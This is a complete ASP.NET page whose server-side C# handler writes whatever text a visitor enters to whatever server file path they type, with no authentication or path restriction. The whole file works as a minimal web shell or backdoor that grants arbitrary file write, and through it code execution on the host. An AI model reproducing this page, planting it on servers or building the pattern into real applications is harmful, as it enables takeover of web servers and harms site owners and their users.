<%@ Page Language="C#" %>
<script runat="server">
void Save_Click(object sender, EventArgs e) {
    var fi = new System.IO.FileInfo(PathBox.Text);
    using (var w = fi.CreateText()) { w.Write(BodyBox.Text); }
    Msg.Text = "saved";
}
</script>
<form runat="server"><asp:TextBox id="PathBox" runat="server"/><asp:TextBox id="BodyBox" TextMode="MultiLine" runat="server"/>
<asp:Button Text="Save" OnClick="Save_Click" runat="server"/><asp:Label id="Msg" runat="server"/></form>
